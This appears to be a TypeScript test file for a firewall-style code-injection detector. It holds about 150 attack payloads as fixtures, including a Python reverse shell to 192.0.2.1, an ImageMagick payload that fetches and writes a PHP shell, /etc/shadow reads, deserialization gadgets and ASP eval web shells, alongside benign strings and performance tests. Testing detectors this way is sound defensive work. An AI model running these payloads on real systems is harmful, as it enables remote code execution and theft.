import { test } from 'node:test';
import assert from 'node:assert/strict';
import { SCORE, type Finding } from '../../finding.ts';
import { codeDetector as detector } from './code.ts';
import { matchBrackets, tokenize, ID, PUNCT, STR } from './tokens.ts';
import { cpuBestOf, detectorRunner } from '../../../../test/helpers/detector-harness.ts';

const run = detectorRunner(detector, { source: 'body', name: 'data' });
const bestOf = cpuBestOf;
const pl1 = (fs: Finding[]) => fs.filter((f) => f.paranoia === 1);

/** [payload, expected rule id] — each must give a paranoia-1 finding with that rule. */
const attacks: [string, string][] = [
  // Node.js: modules that run commands, the process object, the Function constructor
  ["require('child_process').exec('cat /etc/hostname')", 'code-node-require'],
  ['require("node:child_process").spawnSync("sh")', 'code-node-require'],
  ["require('child_' + 'process').execSync('uname')", 'code-node-require'],
  ["require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==','base64').toString()).exec('ls')", 'code-node-require'],
  ["require('fs').readFileSync('/etc/shadow')", 'code-node-require'],
  ["require('vm').runInNewContext('1')", 'code-node-require'],
  ["import('child_process').then((m) => m.exec('ls'))", 'code-node-require'],
  ["import { exec } from 'child_process'", 'code-node-child-process'],
  ["a=require;b='child_process';a(b).spawn('sh')", 'code-node-child-process'],
  ["module.constructor._load(child_process).fork('x')", 'code-node-module'],
  ['require.main.constructor._load("fs")', 'code-node-module'],
  ['require[req.body.name]', 'code-node-require'],
  ["process.mainModule.require('child_process').execSync('whoami')", 'code-node-process'],
  ["process.binding('spawn_sync').spawn({file:'/bin/sh'})", 'code-node-process'],
  ['process[req.query.key]', 'code-node-process'],
  ["process['mainMod'+'ule']", 'code-node-process'],
  ["global.process.mainModule.constructor._load('child_process')", 'code-node-process'],
  ["globalThis['process'].exit()", 'code-node-process'],
  ["child_process.execSync('id')", 'code-node-child-process'],
  ["this.constructor.constructor('return process')().exit()", 'code-node-constructor'],
  ["[]['constructor']['constructor']('return this')()", 'code-node-constructor'],
  ["(function(){}).constructor('return process')()", 'code-node-constructor'],
  ["Function('return process')().mainModule", 'code-node-constructor'],
  ['new Function("return this")().process', 'code-node-constructor'],
  ['_$$ND_FUNC$$_function (){ return 1 }()', 'code-node-serialize'],
  ['{"rce":"_$$ND_FUNC$$_function(){}()"}', 'code-node-serialize'],
  ['{"__js_function":"function(){}"}', 'code-node-serialize'],
  ['eval(String.fromCharCode(112,114,111,99,101,115,115))', 'code-eval'],
  ["eval(Buffer.from('cHJvY2Vzcw==','base64').toString())", 'code-eval'],
  ['eval(atob("cHJvY2Vzcw=="))', 'code-eval'],
  ["eval(\"require('child_process').exec('ls')\")", 'code-eval'],
  ["setTimeout(\"process.exit()\", 10)", 'code-eval'],
  ["vm.runInThisContext('process.mainModule')", 'code-node-vm'],
  ["x = execSync('cat /etc/hostname').toString()", 'code-node-exec'],
  ["Deno.run({ cmd: ['ls'] })", 'code-node-exec'],
  ["fs.readFileSync('/etc/passwd', 'utf8')", 'code-node-fs'],
  ["fs.writeFileSync('../../app/index.js', x)", 'code-node-fs'],
  ['{"then":"$1:__proto__:then","_response":"$2"}', 'code-node-rsc'],
  ['{"get":"$4:constructor:constructor"}', 'code-node-rsc'],
  ["console['log'](1)", 'code-node-console'],
  // JavaScript denial of service: loops that never end
  ['while(true);', 'code-infinite-loop'],
  ['while(1){}', 'code-infinite-loop'],
  ['while (!0)', 'code-infinite-loop'],
  ['while(!false);', 'code-infinite-loop'],
  ["while(!'');", 'code-infinite-loop'],
  ['while(-Infinity){}', 'code-infinite-loop'],
  ['while(new Date);', 'code-infinite-loop'],
  ['while(!![]);', 'code-infinite-loop'],
  ['while(((1)));', 'code-infinite-loop'],
  ['for(;;);', 'code-infinite-loop'],
  ['for (;;) {}', 'code-infinite-loop'],
  ['for(var i=0;true;i++){}', 'code-infinite-loop'],
  ['x=1;while(Object);', 'code-infinite-loop'],
  ['while True: pass', 'code-infinite-loop'],
  // Python
  ["__import__('os').system('id')", 'code-python-import'],
  ['__import__("subprocess").check_output(["ls"])', 'code-python-import'],
  ['__import__("pty").spawn("/bin/sh")', 'code-python-import'],
  ["importlib.import_module('os').popen('ls')", 'code-python-import'],
  ["import os; os.system('ls -la')", 'code-python-exec'],
  ["os.popen('uname -a').read()", 'code-python-exec'],
  ["subprocess.Popen(['ls', '-l'], shell=True)", 'code-python-exec'],
  ["subprocess.check_output('id', shell=True)", 'code-python-exec'],
  ["pty.spawn('/bin/bash')", 'code-python-exec'],
  ['import socket,os;s=socket.socket();s.connect(("192.0.2.1",9001));os.dup2(s.fileno(),0)', 'code-python-exec'],
  ["getattr(os, 'system')('ls')", 'code-python-exec'],
  ["sys.modules['os'].system('ls')", 'code-python-exec'],
  ['eval(compile("print(1)", "<string>", "exec"))', 'code-eval'],
  ["exec(base64.b64decode('cHJpbnQoMSk='))", 'code-eval'],
  ["exec('import os; os.system(\"ls\")')", 'code-eval'],
  ["eval(\"__import__('os').getcwd()\")", 'code-eval'],
  ['().__class__.__bases__[0].__subclasses__()', 'code-python-dunder'],
  ["''.__class__.__mro__[1].__subclasses__()[40]", 'code-python-dunder'],
  ["self.__init__.__globals__['os'].popen('ls')", 'code-python-dunder'],
  ["__builtins__['eval']('1+1')", 'code-python-builtins'],
  ["__builtins__.__import__('os')", 'code-python-builtins'],
  ['!!python/object/apply:os.system ["ls"]', 'code-yaml-tag'],
  ['key: !!python/object/new:type', 'code-yaml-tag'],
  ["cos\nsystem\n(S'ls'\ntR.", 'code-python-pickle'],
  ["c__builtin__\neval\n(Vprint(1)\ntR.", 'code-python-pickle'],
  ['\u0080\u0004\u0095\u0020\u0000\u008c\u0005posix\u0094\u008c\u0006system\u0094\u0093\u0094', 'code-python-pickle'],
  [Buffer.from('\u0080\u0004\u0095\u0020\u0000\u008c\u0002os\u0094\u008c\u0006system\u0094\u0093\u0094\u008c\u0002ls\u0094\u0085\u0094R\u0094.', 'latin1').toString('base64'), 'code-python-pickle'],
  ['{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["ls"]}]}', 'code-jsonpickle'],
  ['{"py/object": "subprocess.Popen"}', 'code-jsonpickle'],
  // a JSON body's key on its own
  ['py/reduce', 'code-jsonpickle'],
  ["pickle.loads(base64.b64decode(data))", 'code-deserialize-call'],
  // Ruby
  ["Kernel.exec('ls')", 'code-ruby-exec'],
  ['Kernel.system "ls"', 'code-ruby-exec'],
  ['IO.popen("uname").read', 'code-ruby-exec'],
  ["Open3.capture2('ls')", 'code-ruby-exec'],
  ['Process.spawn("ls")', 'code-ruby-exec'],
  ['%x(ls -la)', 'code-ruby-exec'],
  ['x = %x{uname -a}', 'code-ruby-exec'],
  ["%x('ls -al /')", 'code-ruby-exec'],
  ["Object.const_get('Kernel').send(:system, 'ls')", 'code-ruby-exec'],
  ["obj.public_send(:eval, 'puts 1')", 'code-ruby-exec'],
  ["method(:system).call('ls')", 'code-ruby-exec'],
  ['eval("`ls`")', 'code-eval'],
  ["instance_eval(\"system('ls')\")", 'code-eval'],
  ['ERB.new("<%= 7 %>").result(binding)', 'code-ruby-erb'],
  ['Marshal.load(Base64.decode64(params[:d]))', 'code-ruby-marshal'],
  ['--- !ruby/object:Gem::Installer\ni: x', 'code-yaml-tag'],
  ["- !ruby/class 'Gem::Requirement'", 'code-yaml-tag'],
  ['"\u0004\bo:\u0015Gem::Requirement\u0006:\u0010@requirements"', 'code-ruby-gadget'],
  ["Kernel.open('|ls')", 'code-ruby-exec'],
  ['open("| ls -la").read', 'code-pipe-open'],
  // Perl
  ["system('ls -la')", 'code-exec-call'],
  ['; system "uname -a"', 'code-exec-call'],
  ['@{[ system "ls" ]}', 'code-exec-call'],
  ['&system("ls")', 'code-exec-call'],
  ['qx{uname -a}', 'code-perl-exec'],
  ['my $x = qx(ls);', 'code-perl-exec'],
  ["readpipe('ls')", 'code-perl-exec'],
  ["CORE::system('ls')", 'code-perl-exec'],
  ["open(F, '|ls')", 'code-pipe-open'],
  ["open F, 'ls|'", 'code-pipe-open'],
  ["open(my $fh, '-|', 'ls')", 'code-pipe-open'],
  ['open(STDIN,">&S");open(STDOUT,">&S");', 'code-pipe-open'],
  ["eval \"system('ls')\"", 'code-eval'],
  ["eval qq{exec('ls')}", 'code-eval'],
  // classic ASP (VBScript, JScript): request data handed to an evaluator, command-running COM objects
  ['<%eval request("pass")%>', 'code-eval'],
  ['<% Eval Request.Item("a") %>', 'code-eval'],
  ['ExecuteGlobal(Request("c"))', 'code-eval'],
  // ImageTragick and Ghostscript: coders in place of an image, %pipe%
  ["push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'ephemeral:/var/www/html/index.php'\npop graphic-context\n", 'code-imagemagick'],
  ["push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'label:@/etc/passwd'\npop graphic-context", 'code-imagemagick'],
  ['<svg><image xlink:href="msl:/tmp/x.msl" height="100" width="100"/></svg>', 'code-imagemagick'],
  ['%!PS\nuserdict /setpagedevice undef\nmark /OutputFile (%pipe%id > /tmp/gs) currentdevice putdeviceprops', 'code-imagemagick'],
  // scanners' probes: print the product of two literals and look for it in the page
  ['response.write(9273*8218)', 'code-eval'],
  ["';print(31337*31337);'", 'code-eval'],
  [';print(md5(31337));', 'code-eval'],
  ["push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'text:/etc/passwd'\npop graphic-context", 'code-imagemagick'],
  ['<?xml version="1.0" encoding="UTF-8"?><image><read filename="https://203.0.113.9/shell.gif"/><write filename="/var/www/html/shell.php"/></image>', 'code-imagemagick'],
  ['Set s = Server.CreateObject("WScript.Shell")', 'code-com-object'],
  ['var sh = new ActiveXObject("Shell.Application");', 'code-com-object'],
  // Groovy: a string or a list of strings run as a command (Jenkins script console)
  ['println "id".execute().text', 'code-groovy-execute'],
  ["def p = ['bash', '-c', 'id'].execute(); p.waitFor()", 'code-groovy-execute'],
  // request data evaluated by server-side JavaScript or Python
  ['eval(req.body.code)', 'code-eval'],
  ['exec(request.args.get("c"))', 'code-eval'],
  // breaking out of a string, payloads inside strings
  ["';require('child_process').exec('ls');//", 'code-node-require'],
  ["\"+process.mainModule.require('child_process')+\"", 'code-node-process'],
  ['{"code": "__import__(\'os\').system(\'ls\')"}', 'code-python-import'],
  ["timeit.timeit(\"__import__('os').system('ls')\")", 'code-python-import'],
  ["x /*c*/ = require/**/('child_process')", 'code-node-require'],
  // .NET deserialization gadgets where a type is named for the deserializer
  ['{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}', 'code-dotnet-gadget'],
  ['{"__type":"System.Configuration.Install.AssemblyInstaller, System.Configuration.Install","Path":"x.dll"}', 'code-dotnet-gadget'],
  ['<root type="System.Data.Services.Internal.ExpandedWrapper`2[[System.Windows.Markup.XamlReader, PresentationFramework]]"/>', 'code-dotnet-gadget'],
  ['!<!System.Windows.Data.ObjectDataProvider%2c%20PresentationFramework> {MethodName: Start}', 'code-dotnet-gadget'],
  ['<ObjectDataProvider x:Key="a" ObjectType="{x:Type m:XamlReader}" MethodName="Parse" xmlns:m="clr-namespace:System.Windows.Markup;assembly=PresentationFramework"/>', 'code-dotnet-gadget'],
  // the same in base64 .NET serialized data: an unsigned __VIEWSTATE (0xFF 0x01) and a BinaryFormatter stream
  [Buffer.concat([Buffer.from([0xff, 0x01, 0x32, 0xe3, 0x0c, 0, 1, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 1, 0, 0, 0]), Buffer.from('Microsoft.PowerShell.Editor, Version=3.0.0.0'), Buffer.from([5, 1, 0, 0, 0]), Buffer.from('Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties'), Buffer.from([1, 0, 0, 0]), Buffer.from('ForegroundBrush')]).toString('base64'), 'code-dotnet-gadget'],
  [Buffer.concat([Buffer.from([0, 1, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 1, 0, 0, 0, 0, 0, 0, 0, 0x0c, 2, 0, 0, 0]), Buffer.from('System.Windows.Forms, Version=4.0.0.0'), Buffer.from([5, 1, 0, 0, 0]), Buffer.from('System.Windows.Forms.AxHost+State'), Buffer.from([1, 0, 0, 0, 8])]).toString('base64'), 'code-dotnet-gadget'],
];

test('attacks give a paranoia-1 finding with the expected rule', () => {
  const failures: string[] = [];
  for (const [payload, rule] of attacks) {
    const found = pl1(run(payload));
    if (!found.some((f) => f.ruleId === rule)) failures.push(`${JSON.stringify(payload)} -> ${JSON.stringify(run(payload).map((f) => `${f.ruleId}/${f.paranoia}`))}, wanted ${rule}`);
  }
  assert.deepEqual(failures, []);
});

test('findings carry the code category, a critical score and an excerpt', () => {
  const [f] = run("xx require('child_process').exec('ls') yy");
  assert.ok(f);
  assert.equal(f.category, 'code');
  assert.equal(f.score, SCORE.critical);
  assert.match(f.ruleId, /^code-[a-z-]+$/);
  assert.ok(f.matched.includes('child_process'));
  assert.ok(f.matched.length <= 120);
});

/** Benign values that must not give a paranoia-1 finding (some give paranoia 2/3 on purpose). */
const benign: string[] = [
  "push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'logo.png'\npop graphic-context",
  '<svg><image xlink:href="https://example.com/logo.png"/></svg>',
  'print 3 * 4 pages',
  'Order 12 * 250 units',
  // prose naming the dangerous words
  'The system is down again; we require a process owner to exec the plan.',
  'In Python, the subprocess module lets you spawn new processes, and os.system is the older way.',
  'Use subprocess.run() instead of os.system() in new code.',
  'Kernel#system documentation and the IO.popen method',
  'Our open(house) event is on Friday, system of a down (live)',
  'My favourite os is linux; which os do you use?',
  'eval is evil, never eval user input',
  "it's fine, O'Brien said \"hello\" while (true) love lasts",
  'while (foo) is bar.',
  'while(!true);',
  'Call function(2) to get the value.',
  'Hi team,\nthe deploy process failed because the build system ran out of memory.\nPlease rerun the pipeline.\nThanks, Ana',
  'Fix hasOwn require [`f89c831`](https://example.com/commit/f89c831)',
  'child process of the parent',
  'the "child_process" module docs',
  'qx is a JavaScript framework; q(uad) and qq',
  'printf("%x(%d)", a, b) prints hex',
  "sprintf('%x(\"%s\")', id, name)",
  'ios\nandroid\nweb\n',
  'cos\nsin\ntan\n',
  'Since CORE::GLOBAL::require makes it unknowable in advance',
  // harmless code snippets
  'print("hello")',
  'cursor.execute(request.form["q"])', // a database call (SQL injection is sqli's business)
  'commands[0].execute(); query.execute(); job.execute(ctx)', // command objects and queries
  'We eval request(s) weekly, and I had to eval request.body in my head',
  'Please execute the plan (request approval first)',
  'console.log(x)',
  "const _ = require('lodash'); _.map([1, 2], (n) => n * 2)",
  "import React from 'react'",
  'import os\nprint(os.getcwd())',
  'for (let i = 0; i < 10; i++) { total += i; }',
  'while (queue.length) { work(queue.shift()); }',
  'while (true) { const x = next(); if (!x) break; }',
  'do { x++; if (x > 5) break; } while (true)',
  'def main():\n    while True:\n        line = input()\n        if not line:\n            break',
  "process.env.NODE_ENV === 'production'",
  'module.exports = { entry: "./src/index.js" }',
  "$(function() { $('.btn').click(function(){ console.log('clicked') }) })",
  '(function(){ var a = 1; })();',
  "var add = new Function('a', 'b', 'return a + b');",
  'user.constructor.name',
  'self.__class__.__name__ and super().__init__()',
  'self.__dict__ == other.__dict__',
  "sys._getframe(1).f_globals.get('__name__')",
  "for sub in cls.__subclasses__(): print(sub)",
  "x = fs.readFileSync('./config.json', 'utf8')",
  "require('fs').existsSync(p)",
  'Exporter::import(grep { 1 } @list)',
  "eval \"require $class\"; die $@ if $@;",
  "open(my $fh, '<', 'data.txt') or die",
  "open(STDERR_COPY, '>&STDERR')",
  'getattr(obj, "name", None)',
  'return Function.prototype.apply.call(fn, this, args)',
  'EXEC sp_who2',
  // error reports, polyfills
  "Error: Cannot find module 'x'\n    at Function.Module._resolveFilename (internal/modules/cjs/loader.js:636:15)\n    at Function.Module._load (internal/modules/cjs/loader.js:562:25)\n    at require (internal/modules/cjs/helpers.js:25:18)\n    at Module._compile (internal/modules/cjs/loader.js:778:30)",
  'TypeError: boom\n    at process.processTicksAndRejections (node:internal/process/task_queues:95:5)',
  '    at eval (eval at compile (https://example.com/app.js:1:100), <anonymous>:3:4)\n    at new Function (<anonymous>)',
  "var root = freeGlobal || freeSelf || Function('return this')();",
  'File "/usr/lib/python3.11/subprocess.py", line 466, in run\n    with Popen(*popenargs, **kwargs) as process:',
  // e-mail and tutorial text
  'Subject: Re: exec summary\n\nHello Sam,\n\nThe approval process (see system(s) overview) requires sign-off by Friday. ' +
    'Please open the attached file and eval-uate the numbers.\n\nBest regards,\nMaria',
  'Python tutorial: the built-in eval function evaluates an expression, exec runs statements, and __import__ is ' +
    'what the import statement calls. Use the subprocess module to run commands; os.system is older.',
  'Ruby tip: Kernel#system returns true when the command succeeds; IO.popen gives you a pipe; Marshal is for trusted data.',
  'Perl one-liner explained: open the file, read each line, and print it; system and exec differ in whether they return.',
  // data
  '{"name":"open","system":"linux","process":"build","require":true}',
  'https://example.com/search?q=open+source+system&page=2',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
  'john.doe@example.com',
  '<p>Hello <b>world</b></p>',
  '$12.50 for 2 items: 3 x $4:00',
  'BAh7BkkiD3Nlc3Npb25faWQGOgZFVEkiJWFiY2RlZg',
  // an ordinary WebForms __VIEWSTATE (a Pair of page state)
  Buffer.concat([Buffer.from([0xff, 0x01, 0x0f, 0x0f, 0x05, 0x0a]), Buffer.from('-1234567890'), Buffer.from([0x64, 0x16, 0x02, 0x66, 0x0f, 0x64, 0x16, 0x02]), Buffer.from('System.Web.UI.Pair Label1 Hello world')]).toString('base64'),
  // Json.NET type metadata of ordinary classes, and .NET names in prose
  '{"$type":"MyShop.Models.Order, MyShop","$id":"1","Lines":{"$type":"System.Collections.Generic.List`1[[MyShop.Models.Line, MyShop]], mscorlib","$values":[]}}',
  'System.Windows.Data is the WPF data-binding namespace; see System.Security.Principal for identities.',
];

test('benign text and harmless code give no paranoia-1 finding', () => {
  const failures: string[] = [];
  for (const value of benign) {
    const found = pl1(run(value));
    if (found.length > 0) failures.push(`${JSON.stringify(value)} -> ${found.map((f) => `${f.ruleId}: ${f.message}`).join('; ')}`);
  }
  assert.deepEqual(failures, []);
});

test('bare words and snippets sit at paranoia 2/3 on purpose', () => {
  const expect: [string, string, number][] = [
    ['process.env', 'code-node-process', 2],
    ['console.info(1)', 'code-node-console', 2],
    ['console.log(x)', 'code-node-console', 3],
    ['function() {', 'code-js-function', 3],
    ['(function(){ })()', 'code-js-function', 2],
    ['module.exports=', 'code-node-module', 3],
    ["require('fs')", 'code-node-require', 2],
    ['new Function(', 'code-node-constructor', 2],
    ['import subprocess', 'code-python-import', 2],
    ['yaml.load(data)', 'code-deserialize-call', 2],
    ['Marshal.load(data)', 'code-ruby-marshal', 2],
    ['ERB.new(template)', 'code-ruby-erb', 2],
    ['eval("1+1")', 'code-eval', 2],
    ['Use subprocess.run() instead', 'code-python-exec', 2],
    ['Never deserialize System.Windows.Data.ObjectDataProvider from user input', 'code-dotnet-gadget', 2],
  ];
  for (const [value, rule, paranoia] of expect) {
    const fs = run(value);
    assert.ok(fs.some((f) => f.ruleId === rule && f.paranoia === paranoia), `${value}: ${JSON.stringify(fs.map((f) => `${f.ruleId}/${f.paranoia}`))}`);
  }
});

test('upload file names IIS runs as ASP or ASP.NET', () => {
  const file = { source: 'body', name: 'file:filename' } as const;
  for (const name of ['shell.aspx', 'shell.asp;.jpg', 'C:\\fakepath\\Default.ASPX', 'up.ashx', 'x.asp\u0000.png']) {
    assert.deepEqual(pl1(run(name, file)).map((f) => f.ruleId), ['code-asp-upload'], name);
  }
  for (const name of ['notes.asp.txt', 'report.pdf', 'aspx', 'cert.cer']) assert.deepEqual(run(name, file), [], name);
  assert.deepEqual(run('shell.aspx', { source: 'body', name: 'title' }), [], 'only in file-name fields');
});

test('nothing at all for values without code', () => {
  for (const value of ['hello world', 'O\'Brien', 'SELECT name FROM users', 'while you wait', 'a', '', 'true']) {
    assert.deepEqual(run(value), [], value);
  }
});

test('code decoded from JavaScript escapes is one paranoia level stricter', () => {
  assert.equal(run('console.info(1)')[0]?.paranoia, 2);
  assert.equal(run('console.info(1)', { layers: ['url', 'js'] })[0]?.paranoia, 1);
  assert.equal(run('console.log(x)', { layers: ['js'] })[0]?.paranoia, 3);
});

test('reports nothing above the paranoia in force', () => {
  assert.deepEqual(run('process.env', { paranoia: 1 }), []);
  assert.equal(run("require('child_process')", { paranoia: 1 }).length, 1);
});

test('the token scanner: strings, apostrophes, quote-like operators, comments, brackets', () => {
  const kinds = (s: string) => tokenize(s).map((t) => (t.k === ID ? 'id:' : t.k === STR ? `str(${t.q}):` : t.k === PUNCT ? 'p:' : 'n:') + t.t);
  assert.deepEqual(kinds("it's 'a' z\"c\""), ['id:it', "p:'", 'id:s', "str('):a", 'id:z', 'str("):c']);
  assert.deepEqual(kinds('qx{ls} q(a) %x(id)'), ['str(qx):ls', 'str(q):a', 'str(%x):id']);
  assert.deepEqual(kinds("b'x' r\"y\""), ["str('):x", 'str("):y']);
  assert.deepEqual(kinds('a/**/(b)'), ['id:a', 'p:(', 'id:b', 'p:)']);
  assert.deepEqual(kinds('a::b->c?.d'), ['id:a', 'p:::', 'id:b', 'p:->', 'id:c', 'p:.', 'id:d']);
  assert.deepEqual(kinds('"""x"y"""'), ['str("""):x"y']);
  assert.deepEqual(kinds("'open\nx'"), ["p:'", 'id:open', 'id:x', "p:'"]);
  const toks = tokenize('f(a[b]{c})');
  const m = matchBrackets(toks);
  assert.equal(m[1], 9);
  assert.equal(m[3], 5);
  assert.equal(m[6], 8);
  assert.equal(m[9], 1);
  assert.equal(matchBrackets(tokenize('(a]'))[0], -1);
});

test('never throws on odd input', () => {
  const odd = [
    '(((((', ')))))', "'''''", '"""', '``````', 'qx{', '%x(', '\u0000\u0001\u0002', '\ud800', '$:$:$:', '!!', '!ruby/',
    'py/', '\n\n\n', '/*', '*/', 'while(', 'for(;', 'require(', 'eval(', '__import__(', '[[[[', ']]]]', '{{{{', '::::',
    'gASV', 'BAh', 'constructor.constructor', 'process[', 'while((((((((((((((((((((((((((((((((((((((true)',
  ];
  for (const v of odd) {
    assert.doesNotThrow(() => run(v));
    assert.doesNotThrow(() => run(v.repeat(500)));
  }
  let seed = 7;
  const rnd = () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff;
  const alphabet = "()[]{}'\"`.:;,=!&|%$_qxrequirprocesvalwhilfo \n\\/*#@<>-+0123456789";
  for (let k = 0; k < 300; k++) {
    let s = '';
    const len = 1 + Math.floor(rnd() * 200);
    for (let i = 0; i < len; i++) s += alphabet[Math.floor(rnd() * alphabet.length)];
    assert.doesNotThrow(() => run(s), s);
  }
});

test('linear time: 200 KB inputs, adversarial and ordinary, well under the bound (CPU time)', () => {
  const inputs: Record<string, string> = {
    prose: 'The quick brown fox jumps over the lazy dog while the system processes requests. '.repeat(2600),
    code: "const x = require('lodash'); function f(a) { return process.env.X + a; } while (i < 10) { i++; }\n".repeat(2100),
    quotes: `'"\`'"(`.repeat(33000),
    unclosed: "'".repeat(100000) + '"'.repeat(100000),
    parens: '(((((((((('.repeat(20000),
    evals: 'eval(eval(eval('.repeat(14000),
    requires: "require('x')".repeat(17000),
    strings: '"process.mainModule" '.repeat(10000),
    nested: `"'process[' `.repeat(17000),
    quoteLike: 'qx(qx{qx[%x('.repeat(16000),
    comments: '/*/*/*'.repeat(33000),
    dunders: '.__class__.__globals__'.repeat(9000),
    references: '$1:a:b:c:'.repeat(22000),
    newlines: 'cos\n'.repeat(50000),
    base64: 'gASV' + 'A'.repeat(200000),
    marshal: 'BAh7' + 'QUFB'.repeat(50000),
    yaml: '!ruby/object:'.repeat(15000),
    pickle: '"py/'.repeat(50000),
    loops: 'while(while(while(!'.repeat(10000),
    fors: 'for(;for(;'.repeat(20000),
    members: 'a.'.repeat(100000),
    opens: "open(F,'".repeat(25000),
  };
  for (const [name, value] of Object.entries(inputs)) {
    const ms = bestOf(() => run(value));
    assert.ok(ms < 200, `${name}: ${ms.toFixed(1)} ms for ${value.length} characters`);
  }
});

test('a .NET gadget in a field named for the type counts at paranoia 1', () => {
  const typed = { source: 'body', name: '$type' } as const;
  assert.deepEqual(pl1(run('System.Windows.Data.ObjectDataProvider, PresentationFramework', typed)).map((f) => f.ruleId), ['code-dotnet-gadget']);
  assert.deepEqual(pl1(run('MyShop.Models.Order, MyShop', typed)), []);
  assert.deepEqual(pl1(run('System.Windows.Data.ObjectDataProvider', { source: 'body', name: 'comment' })), []);
});
